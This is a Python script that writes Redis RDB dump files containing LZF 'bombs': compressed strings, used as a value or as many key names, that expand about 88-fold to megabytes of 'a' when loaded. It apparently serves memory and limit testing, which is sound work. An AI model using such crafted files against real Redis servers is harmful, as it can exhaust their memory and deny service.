#!/usr/bin/env python3
"""LZF bombs: strings that LZF-decompress to about 88 times their stored
size (a one-byte literal, then 264-byte back-references one byte back).
Redis writes such strings itself for long runs of one byte.
  value N OUT  one string key whose value is N MB of 'a'
  names K N OUT  K string keys whose names are N MB of 'a' each, then a key
                 "tail" (the keys differ in their last byte)
usage: lzf_bomb.py value N OUT | lzf_bomb.py names K N OUT"""
import struct, sys

def rlen(n):
    if n < 64: return bytes([n])
    if n < 16384: return bytes([0x40 | (n >> 8), n & 0xFF])
    return b"\x80" + struct.pack(">I", n)

def plain(b):
    return rlen(len(b)) + b

def bomb(mb, last=b"a"):
    """An LZF string of about mb MiB of 'a', ending in the byte 'last'."""
    refs = (mb << 20) // 264
    data = b"\x00a" + b"\xe0\xff\x00" * refs + b"\x00" + last
    return b"\xc3" + rlen(len(data)) + rlen(1 + 264 * refs + 1) + data

b = bytearray(b"REDIS0009\xfe\x00")
if sys.argv[1] == "value":
    mb, out = int(sys.argv[2]), sys.argv[3]
    b += b"\x00" + plain(b"big") + bomb(mb)
else:
    k, mb, out = int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    for i in range(k):
        b += b"\x00" + bomb(mb, bytes([0x41 + i % 26])) + plain(b"v")
    b += b"\x00" + plain(b"tail") + plain(b"v")
b += b"\xff" + bytes(8)
open(out, "wb").write(b)
